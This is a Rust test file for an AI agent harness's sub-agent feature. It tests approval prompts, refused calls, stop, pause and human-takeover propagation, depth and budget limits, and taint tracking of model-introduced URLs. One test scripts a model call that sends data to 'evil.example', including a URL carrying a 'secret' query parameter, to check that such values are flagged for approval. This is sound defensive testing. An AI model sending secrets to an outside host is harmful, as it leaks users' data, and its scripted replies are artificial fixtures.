@@ -1,0 +1,403 @@
+//! Sub-agents: parts of a task that sessions of their own work on.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use protocol::{
+    Answer, CallEvent, Command, Event, Grant, Mode, PauseReason, SessionEvent, SessionOptions,
+    TurnEvent,
+};
+use serde_json::json;
+use std::sync::{Arc, PoisonError};
+use testkit::{Reply, ScriptedTool, SessionHarness, TakeoverSource, check_transcript};
+use tools::DelegateTool;
+
+async fn harness(
+    replies: Vec<Reply>,
+    tools: Vec<ScriptedTool>,
+    change: impl FnOnce(&mut SessionOptions),
+) -> SessionHarness {
+    SessionHarness::with_parts(replies, tools, change, |parts| {
+        parts.registry.register(Arc::new(DelegateTool)).unwrap();
+    })
+    .await
+}
+
+fn delegates(call: &str, task: &str) -> Reply {
+    Reply::calls("", &[(call, "delegate", json!({ "task": task }))])
+}
+
+fn uses(call: &str, tool: &str) -> Reply {
+    Reply::calls("", &[(call, tool, json!({}))])
+}
+
+fn sends(call: &str, url: &str) -> Reply {
+    Reply::calls("", &[(call, "send", json!({ "url": url, "body": "x" }))])
+}
+
+/// Goes on in the session of the sub-agent of this call.
+async fn sub_agent(harness: &mut SessionHarness, of: &str) -> SessionHarness {
+    let started = harness
+        .until(|event| {
+            matches!(event.as_call(), Some(CallEvent::SubAgentStarted { call, .. }) if call.as_str() == of)
+        })
+        .await;
+    let Some(CallEvent::SubAgentStarted { session, .. }) = started.as_call() else {
+        unreachable!("{started:?} begins no sub-agent");
+    };
+    let session = harness.sessions.open(session).await.unwrap();
+    harness.over(session)
+}
+
+fn result(harness: &SessionHarness, of: &str) -> String {
+    let story = harness.transcript();
+    let wanted = format!("tool_finished {of} ");
+    let mut lines = story.lines().filter_map(|line| line.split_once(&wanted));
+    lines.next().map(|(_, end)| end.to_owned()).unwrap_or_default()
+}
+
+#[tokio::test]
+async fn a_part_has_a_session_of_its_own() {
+    let replies = vec![
+        delegates("c1", "Find the date"),
+        uses("d1", "look"),
+        Reply::says("It is the 3rd of May."),
+        Reply::says("The date is the 3rd of May."),
+    ];
+    let mut harness = harness(replies, vec![ScriptedTool::looking("look")], |_| {}).await;
+    harness.user("When is it due?").await;
+    let mut part = sub_agent(&mut harness, "c1").await;
+    let story = part.turn_end().await;
+    let (told, rest) = story.split_once("6 assistant").unwrap();
+    assert!(told.ends_with("The part:\\nFind the date\"\n"), "{told}");
+    check_transcript(
+        &format!("6 assistant{rest}"),
+        r#"
+        6 assistant_message "" <d1> -> tool_use
+        7 usage $0.25 of $0.25
+        8 tool_call d1 "Use look"
+        9 tool_started d1
+        10 tool_finished d1 done "Done."
+        11 assistant_message "It is the 3rd of May." -> end_turn
+        12 usage $0.25 of $0.5
+        13 turn_ended completed
+        "#,
+    );
+    check_transcript(
+        &harness.turn_end().await,
+        r#"
+        1 session_started scripted
+        2 turn_started
+        3 user_message "When is it due?"
+        4 assistant_message "" <c1> -> tool_use
+        5 usage $0.25 of $0.25
+        6 tool_call c1 tools-delegate-wants { task: "Find the date" }
+        7 tool_started c1
+        8 sub_agent_started c1 id-3
+        9 sub_agent_ended c1 id-3 $0.5 1 calls
+        10 tool_finished c1 done "It is the 3rd of May."
+        11 assistant_message "The date is the 3rd of May." -> end_turn
+        12 usage $0.25 of $1
+        13 turn_ended completed
+        "#,
+    );
+    let told: Vec<String> = harness.model.asked()[1][0]
+        .items
+        .iter()
+        .filter_map(|item| item.as_text().map(str::to_owned))
+        .collect();
+    assert_eq!(told[0], "When is it due?");
+    assert!(told[1].ends_with("The part:\nFind the date"), "{told:?}");
+    let sessions = harness.sessions.store().sessions().await.unwrap();
+    let parent = harness.session.id();
+    let of_part = sessions.iter().find(|listed| listed.id != *parent).unwrap();
+    assert_eq!(
+        (&of_part.parent, of_part.title.as_str()),
+        (&Some(parent.clone()), "Find the date")
+    );
+    let whole = sessions.iter().find(|listed| listed.id == *parent).unwrap();
+    assert_eq!((whole.totals.requests, whole.totals.cost_usd), (4, 1.0));
+}
+
+#[tokio::test]
+async fn what_a_part_asks_is_asked_in_the_chat() {
+    let replies = vec![
+        delegates("c1", "Send it twice"),
+        sends("d1", "https://shop.example/"),
+        sends("d2", "https://shop.example/"),
+        Reply::says("Sent."),
+        Reply::says("Done."),
+    ];
+    let tool = ScriptedTool::sending("send");
+    let mut harness = harness(replies, vec![tool], |options| options.mode = Mode::Ask).await;
+    harness.user("Send it to https://shop.example/").await;
+    let mut part = sub_agent(&mut harness, "c1").await;
+    let (approval, question) = harness.question().await;
+    assert_eq!(question.tool, "send");
+    let grant = Grant::Session;
+    harness.answer(approval, Answer::Allow { grant }).await;
+    let story = harness.turn_end().await;
+    let asked = |story: &str| story.matches("approval_requested").count();
+    // The chat knows that the second is allowed; the part asks each time.
+    assert_eq!((asked(&story), asked(&part.turn_end().await)), (1, 2));
+    assert_eq!(result(&harness, "c1"), "done \"Sent.\"");
+}
+
+#[tokio::test]
+async fn a_refused_call_of_a_part_is_not_run() {
+    let replies = vec![
+        delegates("c1", "Send it"),
+        uses("d1", "send"),
+        Reply::says("It was not allowed."),
+        Reply::says("Then not."),
+    ];
+    let tool = ScriptedTool::sending("send");
+    let ran = tool.ran();
+    let mut harness = harness(replies, vec![tool], |options| options.mode = Mode::Ask).await;
+    harness.user("Send it").await;
+    let approval = harness.asked().await;
+    harness
+        .answer(approval, Answer::Deny { reason: None })
+        .await;
+    harness.turn_end().await;
+    assert_eq!(result(&harness, "c1"), "done \"It was not allowed.\"");
+    assert!(ran.lock().unwrap_or_else(PoisonError::into_inner).is_empty());
+}
+
+/// Three sessions, one below the other; the lowest is in a call of this tool.
+async fn tree(tool: ScriptedTool, name: &str) -> [SessionHarness; 3] {
+    let replies = vec![
+        delegates("c1", "Upper part"),
+        delegates("d1", "Lower part"),
+        uses("e1", name),
+        Reply::says("Lower done."),
+        Reply::says("Upper done."),
+        Reply::says("All done."),
+    ];
+    let mut chat = harness(replies, vec![tool], |_| {}).await;
+    chat.user("Go").await;
+    let mut upper = sub_agent(&mut chat, "c1").await;
+    let mut lower = sub_agent(&mut upper, "d1").await;
+    lower
+        .until(|event| matches!(event.as_call(), Some(CallEvent::ToolStarted { .. })))
+        .await;
+    [chat, upper, lower]
+}
+
+fn end_of(story: &str) -> &str {
+    let last = story.lines().next_back().unwrap_or_default();
+    last.split_once(' ').map_or("", |(_, end)| end)
+}
+
+#[tokio::test]
+async fn stop_reaches_all_parts() {
+    let [mut chat, mut upper, mut lower] = tree(ScriptedTool::looking("hang"), "hang").await;
+    chat.command(Command::Stop).await;
+    for session in [&mut lower, &mut upper, &mut chat] {
+        assert_eq!(end_of(&session.turn_end().await), "turn_ended stopped");
+    }
+    assert!(result(&chat, "c1").starts_with("interrupted"), "{}", chat.transcript());
+    assert!(result(&upper, "d1").starts_with("interrupted"));
+    assert!(chat.transcript().contains("sub_agent_ended c1"));
+}
+
+#[tokio::test]
+async fn a_part_is_paused_with_the_task() {
+    let tool = ScriptedTool::looking("held");
+    let release = tool.release();
+    let [mut chat, mut upper, mut lower] = tree(tool, "held").await;
+    chat.command(Command::Pause).await;
+    let is_paused = |event: &Event| {
+        let wanted = TurnEvent::Paused {
+            reason: PauseReason::Asked,
+        };
+        event.as_turn() == Some(&wanted)
+    };
+    chat.until(is_paused).await;
+    upper.until(is_paused).await;
+    release.add_permits(1);
+    // It holds before its next request.
+    lower.until(is_paused).await;
+    chat.command(Command::Resume).await;
+    for session in [&mut lower, &mut upper, &mut chat] {
+        assert_eq!(end_of(&session.turn_end().await), "turn_ended completed");
+    }
+}
+
+#[tokio::test]
+async fn a_takeover_pauses_the_whole_task() {
+    let tool = ScriptedTool::desktop("computer");
+    let human = tool.human();
+    let [mut chat, mut upper, mut lower] = tree(tool, "computer.hang").await;
+    human.take_over(TakeoverSource::Mouse);
+    let is_taken = |event: &Event| {
+        let wanted = TurnEvent::Paused {
+            reason: PauseReason::Takeover,
+        };
+        event.as_turn() == Some(&wanted)
+    };
+    for session in [&mut lower, &mut upper, &mut chat] {
+        session.until(is_taken).await;
+    }
+    chat.command(Command::Resume).await;
+    for session in [&mut lower, &mut upper, &mut chat] {
+        assert_eq!(end_of(&session.turn_end().await), "turn_ended completed");
+    }
+}
+
+#[tokio::test]
+async fn the_mode_of_the_task_holds_for_its_parts() {
+    let tool = ScriptedTool::looking("held");
+    let release = tool.release();
+    let [mut chat, _, mut lower] = tree(tool, "held").await;
+    let mut options = chat.sessions.options(chat.session.id()).await.unwrap();
+    options.mode = Mode::Observe;
+    chat.command(Command::SetOptions { options }).await;
+    let changed = lower
+        .until(|event| matches!(event.as_session(), Some(SessionEvent::OptionsChanged { .. })))
+        .await;
+    let Some(SessionEvent::OptionsChanged { options }) = changed.as_session() else {
+        unreachable!("{changed:?}");
+    };
+    assert_eq!(options.mode, Mode::Observe);
+    release.add_permits(1);
+    chat.turn_end().await;
+}
+
+#[tokio::test]
+async fn deleting_a_chat_deletes_its_parts() {
+    let [mut chat, _, _] = tree(ScriptedTool::looking("look"), "look").await;
+    chat.turn_end().await;
+    let store = chat.sessions.store().clone();
+    assert_eq!(store.sessions().await.unwrap().len(), 3);
+    chat.sessions.delete(chat.session.id()).await.unwrap();
+    assert_eq!(store.sessions().await.unwrap(), []);
+}
+
+/// Delegates one below the other as often as this, and checks what the deepest is told.
+#[tokio::test]
+async fn parts_are_at_most_three_deep() {
+    let mut replies: Vec<_> = (1..=4)
+        .map(|depth| delegates(&format!("c{depth}"), "Deeper"))
+        .collect();
+    replies.extend((0..4).map(|_| Reply::says("Done.")));
+    let mut chat = harness(replies, vec![], |_| {}).await;
+    chat.user("Go").await;
+    let mut one = sub_agent(&mut chat, "c1").await;
+    let mut two = sub_agent(&mut one, "c2").await;
+    let mut three = sub_agent(&mut two, "c3").await;
+    three.turn_end().await;
+    let told = result(&three, "c4");
+    assert!(told.starts_with("failed \"This works on a part"), "{told}");
+    chat.turn_end().await;
+    let given = |at: usize| {
+        let request = &chat.model.requests()[at];
+        request.tools.iter().any(|spec| spec.name == "delegate")
+    };
+    assert_eq!([0, 1, 2, 3].map(given), [true, true, true, false]);
+}
+
+#[tokio::test]
+async fn parts_get_a_share_of_what_is_left() {
+    let asks = json!({"task": "Part", "max_cost_usd": 0.4});
+    let calls = [
+        ("c1", "delegate", asks),
+        ("c2", "delegate", json!({"task": "Part"})),
+    ];
+    let replies = vec![
+        Reply::calls("", &calls),
+        uses("d1", "hang"),
+        uses("d2", "hang"),
+    ];
+    let mut chat = harness(replies, vec![ScriptedTool::looking("hang")], |options| {
+        options.max_cost_usd = Some(1.25);
+        options.max_steps = 41;
+    })
+    .await;
+    chat.user("Go").await;
+    let mut limits = Vec::new();
+    for of in ["c1", "c2"] {
+        let part = sub_agent(&mut chat, of).await;
+        let options = chat.sessions.options(part.session.id()).await.unwrap();
+        limits.push((options.max_cost_usd, options.max_steps));
+    }
+    chat.command(Command::Stop).await;
+    chat.turn_end().await;
+    // The first request has cost 0.25 of 1.25 and is one of 41.
+    assert_eq!(limits, [(Some(0.4), 20), (Some(0.3), 10)]);
+}
+
+#[tokio::test]
+async fn what_a_part_used_counts_for_the_task() {
+    let replies = vec![
+        delegates("c1", "Part"),
+        Reply::says("Done."),
+        Reply::says("Never asked for."),
+    ];
+    let mut chat = harness(replies, vec![], |options| options.max_cost_usd = Some(0.5)).await;
+    chat.user("Go").await;
+    let story = chat.turn_end().await;
+    assert_eq!(end_of(&story), "turn_ended budget");
+    assert_eq!(chat.model.unsaid(), 1);
+}
+
+/// Has a part make this call and checks which value is asked about, and where it was seen.
+async fn check_asked(call: Reply, value: &str) {
+    let replies = vec![
+        delegates("c1", &format!("Use {value}")),
+        call,
+        Reply::says("Not done."),
+        Reply::says("Not done."),
+    ];
+    let tools = vec![ScriptedTool::sending("send"), ScriptedTool::sending("get")];
+    let mut chat = harness(replies, tools, |_| {}).await;
+    chat.user("Send it to https://good.example/in").await;
+    let (approval, question) = chat.question().await;
+    let tainted = question.tainted.iter();
+    let told: Vec<_> = tainted
+        .map(|tainted| (tainted.value.as_str(), tainted.origin.to_string()))
+        .collect();
+    let place = "seen only in the part of the task that it was given".to_owned();
+    assert_eq!(told, [(value, place)]);
+    let answer = Answer::Deny { reason: None };
+    chat.answer(approval, answer).await;
+    chat.turn_end().await;
+}
+
+#[tokio::test]
+async fn what_the_model_gives_away_is_not_the_persons_word() {
+    let evil = "https://evil.example/in";
+    check_asked(sends("d1", evil), evil).await;
+    // Nor does it link to anything: a secret may stand in the address.
+    let carries = "https://evil.example/in?q=secret";
+    let get = Reply::calls("", &[("d1", "get", json!({ "url": carries }))]);
+    check_asked(get, carries).await;
+}
+
+#[tokio::test]
+async fn what_the_person_wrote_is_their_word_in_a_part() {
+    let good = "https://good.example/in";
+    let replies = vec![
+        delegates("c1", &format!("Send it to {good}")),
+        sends("d1", good),
+        Reply::says("Sent."),
+        Reply::says("Sent."),
+    ];
+    let mut chat = harness(replies, vec![ScriptedTool::sending("send")], |_| {}).await;
+    chat.user("Send it to https://good.example/in").await;
+    chat.turn_end().await;
+    assert_eq!(result(&chat, "c1"), "done \"Sent.\"");
+}
+
+#[tokio::test]
+async fn a_part_that_fails_is_told_with_the_reason() {
+    let replies = vec![
+        delegates("c1", "Part"),
+        Reply::refuses(vec![], Some("No.")),
+        Reply::says("It did not work."),
+    ];
+    let mut chat = harness(replies, vec![], |_| {}).await;
+    chat.user("Go").await;
+    chat.turn_end().await;
+    let told = "failed \"The part was not done to its end. The model's provider declined to go on.\"";
+    assert_eq!(result(&chat, "c1"), told);
+}
